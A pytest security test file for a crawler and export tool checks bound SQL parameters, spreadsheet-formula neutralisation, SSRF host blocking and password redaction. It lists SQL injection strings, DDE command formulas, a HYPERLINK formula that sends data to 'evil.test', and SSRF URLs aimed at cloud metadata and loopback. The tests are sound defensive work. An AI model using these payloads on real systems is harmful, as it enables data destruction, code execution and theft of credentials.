"""Security: SQL only through bound parameters, CSV formula injection neutralised, the crawler never
leaves its hosts (unit checks and a real crawl), database credentials never printed."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from scrapy import Request
from scrapy.exceptions import IgnoreRequest
from scrapy.http import HtmlResponse
from sqlalchemy import inspect, select

from crawler.middlewares import HostGuardMiddleware
from crawler.spiders.site import SiteSpider
from crawler.urls import is_allowed
from storage.db import open_db
from storage.models import DocumentRow, SectionRow
from storage.repository import RawInput, table_counts
from winnow.service.batches import BatchWriter

WINNOW = str(Path(sys.executable).parent / "winnow")
REPO = Path(__file__).resolve().parent.parent

SQL_PAYLOADS = [
    "'); DROP TABLE documents;--",
    "Robert'); DROP TABLE sections; --",
    '" OR 1=1 --',
    "1; DELETE FROM raw_pages WHERE 1=1",
    "%s %(url)s :url ? $1 {0}",
    "\\'; SELECT pg_sleep(10);--",
    "'||(SELECT version())||'",
]


def _page(title: str, text: str) -> bytes:
    return (
        f"<html><head><meta charset='utf-8'><title>{title}</title></head><body><article>"
        f"<h1>{title}</h1><p>{text}</p><p>这是一段足够长的正文内容,用于让页面被正常抽取和保存。</p>"
        "</article></body></html>"
    ).encode()


# -- SQL: bound parameters only ---------------------------------------------------------------


def test_hostile_titles_urls_and_text_are_stored_verbatim_and_tables_survive(db_url: str) -> None:
    sessions = open_db(db_url)
    writer = BatchWriter(sessions, batch_size=3)
    expected = {}
    for n, payload in enumerate(SQL_PAYLOADS):
        url = f"http://sql.test/{n}?q={payload}"
        text = f"正文{payload}正文,这是一段用于测试的正文内容。"
        writer.add(
            RawInput(
                url=url,
                body=_page(payload.replace("<", "&lt;"), text.replace("<", "&lt;")),
                headers={"Content-Type": "text/html; charset=utf-8", "X-Payload": payload},
            )
        )
        expected[url] = (payload, text)
    writer.flush()
    tables = set(inspect(sessions.kw["bind"]).get_table_names())
    assert {"documents", "sections", "raw_pages", "clusters"} <= tables
    with sessions() as session:
        rows = {r.url: r for r in session.execute(select(DocumentRow)).scalars()}
        assert table_counts(session)["documents"] == len(SQL_PAYLOADS)
        assert session.execute(select(SectionRow.id)).first() is not None
    assert set(rows) == set(expected)
    for url, (payload, text) in expected.items():
        assert rows[url].title == payload
        assert text in rows[url].clean_text


def test_repository_has_no_string_built_sql() -> None:
    """No f-string/format/% SQL in storage/: scraped text only reaches SQL as bound parameters."""
    import re

    pattern = re.compile(r"""(?:text|exec_driver_sql|execute)\(\s*f["']|["']\s*%\s*\(|\.format\(""")
    offenders = []
    for path in (REPO / "storage").rglob("*.py"):
        if "migrations" in path.parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if pattern.search(line) and re.search(r"select|insert|update|delete|where", line, re.I):
                offenders.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert not offenders, offenders


# -- CSV / Excel formula injection --------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'csv.db'}"
    sessions = open_db(db)
    writer = BatchWriter(sessions)
    for n, formula in enumerate(FORMULAS):
        body = (
            f"<html><head><meta charset='utf-8'><title>{formula}</title></head><body><article>"
            f"<p>{formula}</p><p>{formula},这是一段足够长的正文内容,用于让页面被正常保存。</p>"
            "</article></body></html>"
        ).encode()
        writer.add(RawInput(url=f"http://csv.test/{n}", body=body, headers={"Content-Type": "text/html"}))
    writer.flush()
    out = subprocess.run(
        [WINNOW, "export", "--out", str(tmp_path / "out"), "--db", db], capture_output=True, text=True, timeout=120
    )
    assert out.returncode == 0, out.stderr
    cells = []
    for name in ("documents.csv", "sections.csv", "canonical.csv"):
        with open(tmp_path / "out" / name, encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in list(csv.reader(handle))[1:] for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # the title made it, defused
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


def test_xlsx_export_has_no_formula_and_neutralises_like_csv(tmp_path: Path) -> None:
    import openpyxl

    db = f"sqlite:///{tmp_path / 'xlsx.db'}"
    writer = BatchWriter(open_db(db))
    for n, formula in enumerate(FORMULAS):
        body = (
            f"<html><head><meta charset='utf-8'><title>{formula}</title></head><body><article>"
            f"<p>{formula}</p><p>{formula},这是一段足够长的正文内容,用于让页面被正常保存。</p>"
            "</article></body></html>"
        ).encode()
        writer.add(RawInput(url=f"http://xlsx.test/{n}", body=body, headers={"Content-Type": "text/html"}))
    writer.flush()
    out = subprocess.run(
        [WINNOW, "export", "--format", "xlsx", "--out", str(tmp_path / "out"), "--db", db],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    book = openpyxl.load_workbook(tmp_path / "out" / "winnow.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # written as text, never as formulas
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]


# -- host safety: unit checks -------------------------------------------------------------------

HOSTS = {"example.com"}


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/a",
        "https://example.com/b?x=1",
        "http://EXAMPLE.COM/c",
        "http://example.com:8080/d",
    ],
)
def test_allowed_host(url: str) -> None:
    assert is_allowed(url, HOSTS)


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.test/",  # another host
        "http://sub.example.com/",
        "http://example.com.evil.test/",
        "http://example.com./",  # look-alikes
        "file:///etc/passwd",
        "ftp://example.com/",
        "javascript:alert(1)",
        "data:text/html,<p>x</p>",
        "gopher://example.com/",
        "//evil.test/",
        "http:evil.test",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://127.0.0.1/",
        "http://localhost/",
        "http://0.0.0.0/",
        "http://2130706433/",
        "http://0177.0.0.1/",
        "http://0x7f.0.0.1/",
        "http://0x7f000001/",
        "http://127.1/",
        "http://example.com@evil.test/",
        "http://example.com:80@evil.test/",
        "http://user:pw@example.com/",
        "http://evil.test\\@example.com/",
        "http://evil.test#@example.com/",
        "http://evil.test?@example.com/",
        "http://exa%6dple.com/",
        "http://localtest.me/",
        "http://127.0.0.1.nip.io/",  # DNS names that resolve to loopback
    ],
)
def test_refused_urls(url: str) -> None:
    assert not is_allowed(url, HOSTS)


@pytest.mark.parametrize(
    "host",
    [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "169.254.43518",
        "169.254.169.254.",
        "::ffff:169.254.169.254",
        "fe80::1",
        "0.0.0.0",
        "0",
        "224.0.0.1",
    ],
)
def test_metadata_and_link_local_addresses_are_refused_even_when_listed(host: str) -> None:
    url = f"http://[{host}]/" if ":" in host else f"http://{host}/"
    assert not is_allowed(url, {host})


def test_loopback_is_crawlable_only_when_it_is_the_given_host() -> None:
    assert is_allowed("http://127.0.0.1:8000/", {"127.0.0.1"})
    assert not is_allowed("http://localhost:8000/", {"127.0.0.1"})
    assert not is_allowed("http://127.0.0.2:8000/", {"127.0.0.1"})
    assert not is_allowed("http://2130706433:8000/", {"127.0.0.1"})


class _Stats:
    def __init__(self) -> None:
        self.values: dict[str, int] = {}

    def inc_value(self, key: str, count: int = 1) -> None:
        self.values[key] = self.values.get(key, 0) + count


class _Crawler:
    def __init__(self, spider: object) -> None:
        self.spider = spider
        self.stats = _Stats()


def test_host_guard_refuses_redirects_and_requests_to_other_hosts() -> None:
    spider = SiteSpider(start_url="http://example.com/")
    guard = HostGuardMiddleware(_Crawler(spider))  # type: ignore[arg-type]
    assert guard.process_request(Request("http://example.com/a"), spider) is None
    for url in (
        "http://evil.test/",
        "http://169.254.169.254/",
        "http://localhost/",
        "http://evil.test\\@example.com/",
        "http://example.com@evil.test/",
    ):
        with pytest.raises(IgnoreRequest):
            guard.process_request(Request(url, dont_filter=True), spider)
    # a redirect hop is a new Request through the same guard
    redirected = Request("http://example.com/a").replace(url="http://127.0.0.1/admin")
    with pytest.raises(IgnoreRequest):
        guard.process_request(redirected, spider)


def test_spider_follows_only_same_host_links() -> None:
    spider = SiteSpider(start_url="http://example.com/")
    links = [
        "/ok",
        "http://evil.test/",
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "http://[::1]/",
        "http://2130706433/",
        "http://example.com@evil.test/",
        "http://evil.test\\@example.com/",
        "javascript:x()",
        "mailto:a@example.com",
    ]
    html = "<html><body>" + "".join(f"<a href='{h}'>x</a>" for h in links) + "</body></html>"
    response = HtmlResponse(url="http://example.com/", body=html.encode(), encoding="utf-8")
    followed = [r.url for r in spider.follow_links(response)]
    assert followed == ["http://example.com/ok"]
    assert all(spider.to_follow(response.urljoin(h)) is None for h in links[1:])


# -- a real crawl never sends a request to another host name ----------------------------------


class _LoggingHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        server = self.server
        with server.lock:  # type: ignore[attr-defined]
            server.log.append((server.server_address[0], self.headers.get("Host", ""), self.path))  # type: ignore[attr-defined]
        status, headers, body = server.route(self.path)  # type: ignore[attr-defined]
        self.send_response(status)
        for key, value in headers.items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _routes(port: int):  # type: ignore[no-untyped-def]
    other = f"http://localhost:{port}"
    lo2 = f"http://127.0.0.2:{port}"
    me = f"http://127.0.0.1:{port}"
    html = "text/html; charset=utf-8"
    links = [
        f"{me}/a",
        f"{other}/via-localhost",
        f"{lo2}/via-127-0-0-2",
        f"http://2130706433:{port}/decimal",
        f"http://0177.0.0.1:{port}/octal",
        f"http://[::1]:{port}/ipv6",
        f"{me}/redirect-localhost",
        f"{me}/redirect-127-0-0-2",
        f"{me}/redirect-metadata",
        f"{me}/redirect-userinfo",
        f"{me}/redirect-backslash",
        f"http://127.0.0.1:{port}@localhost:{port}/userinfo",
        f"{me}/refresh",
    ]
    index = (
        "<html><head><title>首页</title>"
        f"<link rel='canonical' href='{other}/canonical'><link rel='next' href='{lo2}/next'></head><body>"
        + "".join(f"<a href='{u}'>链接</a>" for u in links)
        + "</body></html>"
    )
    article = (
        "<html><head><title>文章</title></head><body><article><h1>医保卡余额怎么查?</h1>"
        "<p>打开支付宝,搜索医保电子凭证,进入后可以看到账户余额和消费明细。</p></article></body></html>"
    )
    table = {
        "/": (200, {"Content-Type": html}, index.encode()),
        "/a": (200, {"Content-Type": html}, article.encode()),
        "/robots.txt": (
            200,
            {"Content-Type": "text/plain"},
            f"User-agent: *\nAllow: /\nSitemap: {other}/sitemap.xml\n".encode(),
        ),
        "/sitemap.xml": (
            200,
            {"Content-Type": "application/xml"},
            (
                "<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
                f"<url><loc>{me}/a</loc></url><url><loc>{other}/from-sitemap</loc></url>"
                f"<url><loc>{lo2}/from-sitemap</loc></url></urlset>"
            ).encode(),
        ),
        "/redirect-localhost": (302, {"Location": f"{other}/redirected"}, b""),
        "/redirect-127-0-0-2": (301, {"Location": f"{lo2}/redirected"}, b""),
        "/redirect-metadata": (302, {"Location": "http://169.254.169.254/latest/meta-data/"}, b""),
        "/redirect-userinfo": (302, {"Location": f"http://127.0.0.1:{port}@localhost:{port}/redirected"}, b""),
        "/redirect-backslash": (302, {"Location": f"http://localhost:{port}\\@127.0.0.1:{port}/redirected"}, b""),
        "/refresh": (
            200,
            {"Content-Type": html},
            f"<html><head><meta http-equiv='refresh' content='0; url={other}/refreshed'></head></html>".encode(),
        ),
    }
    return lambda path: table.get(path.split("?")[0], (404, {"Content-Type": "text/plain"}, b"not found"))


@pytest.fixture
def two_loopback_servers() -> Iterator[tuple[int, list[tuple[str, str, str]]]]:
    """One handler listening on 127.0.0.1:PORT and 127.0.0.2:PORT, with one shared request log."""
    log: list[tuple[str, str, str]] = []
    lock = threading.Lock()
    first = ThreadingHTTPServer(("127.0.0.1", 0), _LoggingHandler)
    port = first.server_address[1]
    servers = [first]
    try:
        servers.append(ThreadingHTTPServer(("127.0.0.2", port), _LoggingHandler))
    except OSError:
        pass  # 127.0.0.2 not routable here: the localhost alias still tests the rule
    for server in servers:
        server.daemon_threads = True
        server.log, server.lock, server.route = log, lock, _routes(port)  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield port, log
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_real_crawl_sends_no_request_to_another_host(two_loopback_servers, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    port, log = two_loopback_servers
    out = subprocess.run(
        [
            WINNOW,
            "crawl",
            "--start-url",
            f"http://127.0.0.1:{port}/",
            "--db",
            f"sqlite:///{tmp_path / 'c.db'}",
            "-s",
            "DOWNLOAD_DELAY=0",
            "-s",
            "AUTOTHROTTLE_ENABLED=False",
            "-s",
            "RETRY_ENABLED=False",
            "-s",
            "DOWNLOAD_TIMEOUT=5",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    paths = {path for _, _, path in log}
    assert "/a" in paths and "/redirect-localhost" in paths  # the crawl really ran and met the traps
    strangers = [(addr, host, path) for addr, host, path in log if (addr, host) != ("127.0.0.1", f"127.0.0.1:{port}")]
    assert not strangers, strangers


# -- credentials in database URLs ---------------------------------------------------------------

SECRET = "s3cr3tPassw0rd"


def _pg_url_with_password() -> str:
    from conftest import PG_ADMIN_URL

    return PG_ADMIN_URL.replace("postgres@", f"postgres:{SECRET}@", 1)


@pytest.mark.parametrize(
    "args, via_env",
    [
        (["export", "--out", "x"], False),
        (["ingest", "."], True),
        (["crawl", "--start-url", "http://127.0.0.1:9/"], False),
    ],
)
def test_password_never_printed_on_errors(args: list[str], via_env: bool, tmp_path: Path) -> None:
    url = f"postgresql+psycopg://winnow:{SECRET}@127.0.0.1:1/none"
    env = {**os.environ, "WINNOW_DB": url} if via_env else dict(os.environ)
    extra = [] if via_env else ["--db", url]
    out = subprocess.run(
        [WINNOW, *args, *extra, "--log-level", "DEBUG"],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
        env=env,
    )
    assert out.returncode != 0
    assert SECRET not in out.stdout + out.stderr


def test_password_never_in_help_even_when_set_in_env(tmp_path: Path) -> None:
    env = {**os.environ, "WINNOW_DB": f"postgresql+psycopg://winnow:{SECRET}@db/winnow"}
    for command in ("crawl", "ingest", "reprocess", "export", "demo", "sites"):
        out = subprocess.run([WINNOW, command, "--help"], capture_output=True, text=True, timeout=60, env=env)
        assert out.returncode == 0 and SECRET not in out.stdout + out.stderr


def test_password_never_in_logs_of_a_successful_run(tmp_path: Path) -> None:
    """A real run against PostgreSQL with a password in the URL, DEBUG logging to a file."""
    from conftest import _pg_database

    databases = _pg_database()
    name = next(databases)
    try:
        url = name.replace("postgres@", f"postgres:{SECRET}@", 1)
        page = tmp_path / "in" / "a.html"
        page.parent.mkdir()
        page.write_bytes(_page("标题", "正文内容,这是一段足够长的正文。"))
        log_file = tmp_path / "winnow.log"
        for args in (
            ["ingest", str(page.parent)],
            ["export", "--out", str(tmp_path / "out")],
            ["crawl", "--start-url", "http://127.0.0.1:9/", "-s", "RETRY_ENABLED=False"],
        ):
            out = subprocess.run(
                [WINNOW, *args, "--db", url, "--log-level", "DEBUG", "--log-file", str(log_file)],
                capture_output=True,
                text=True,
                timeout=120,
                cwd=tmp_path,
            )
            assert SECRET not in out.stdout + out.stderr, args
        assert log_file.stat().st_size > 0
        assert SECRET not in log_file.read_text(encoding="utf-8", errors="replace")
    finally:
        databases.close()
